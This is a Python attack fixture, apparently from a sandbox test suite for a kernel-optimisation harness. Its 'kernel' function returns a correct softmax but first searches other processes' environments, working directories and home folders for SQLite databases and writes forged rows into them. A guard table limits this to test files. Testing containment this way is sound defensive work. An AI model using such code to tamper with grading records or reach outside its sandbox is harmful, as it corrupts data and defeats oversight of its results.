"""Attack 11: find the kernel database and rewrite it.

Looks for SQLite files where accelopt keeps them: $ACCELOPT_HOME/kernels.db,
$XDG_DATA_HOME/accelopt/kernels.db, ~/.local/share/accelopt/kernels.db, ~/kernels.db and any
*.db / *.sqlite a few levels under HOME, using its own environment and the environments of the
processes in reach (its parent's first), plus its working dir, its parent's and their parents.
Every database it finds gets a forged row and a new table. The answer it returns is honest.

Safety: only files holding the test's `accelopt_attack_fixture` table are rewritten.
"""

import contextlib
import os
import sqlite3
from pathlib import Path

import numpy as np
from _reach import _environ, _reach  # accelopt-attack-include: inlined by attack_source

GUARD_TABLE = "accelopt_attack_fixture"


def _candidates():
    envs = [dict(os.environ)] + [_environ(pid) for pid in [os.getppid(), *sorted(_reach())]]
    paths = []
    for env in envs:
        if env.get("ACCELOPT_HOME"):
            paths.append(Path(env["ACCELOPT_HOME"]) / "kernels.db")
        if env.get("XDG_DATA_HOME"):
            paths.append(Path(env["XDG_DATA_HOME"]) / "accelopt" / "kernels.db")
        home = env.get("HOME")
        if home:
            paths += [Path(home) / ".local/share/accelopt/kernels.db", Path(home) / "kernels.db"]
            paths += _walk(Path(home), depth=3)
    dirs = [Path.cwd()]
    with contextlib.suppress(OSError):
        dirs.append(Path(os.readlink(f"/proc/{os.getppid()}/cwd")))
    for base in dirs:
        for parent in [base, *base.parents][:4]:
            paths += [parent / "kernels.db", *_walk(parent, depth=1)]
    return list(dict.fromkeys(paths))


def _walk(root, depth, budget=None):
    budget = budget if budget is not None else [3000]
    found = []
    with contextlib.suppress(OSError):
        for entry in os.scandir(root):
            budget[0] -= 1
            if budget[0] < 0:
                break
            if entry.is_file(follow_symlinks=False) and entry.name.endswith(
                (".db", ".sqlite", ".sqlite3")
            ):
                found.append(Path(entry.path))
            elif depth > 1 and entry.is_dir(follow_symlinks=False):
                found += _walk(Path(entry.path), depth - 1, budget)
    return found


def _rewrite(path):
    if not path.is_file():
        return
    with contextlib.suppress(Exception):
        connection = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1)
        try:
            tables = {row[0] for row in connection.execute("SELECT name FROM sqlite_master")}
            if GUARD_TABLE not in tables:
                return
            for table in tables:
                columns = [r[1] for r in connection.execute(f'PRAGMA table_info("{table}")')]
                if columns:
                    values = ",".join("?" for _ in columns)
                    connection.execute(
                        f'INSERT INTO "{table}" VALUES ({values})', ["forged"] * len(columns)
                    )
            connection.execute("CREATE TABLE IF NOT EXISTS forged_by_kernel (x TEXT)")
            connection.commit()
        finally:
            connection.close()


def kernel(x):
    for path in _candidates():
        _rewrite(path)
    out = x - x.max(axis=1, keepdims=True)
    np.exp(out, out=out)
    out /= out.sum(axis=1, keepdims=True)
    return out
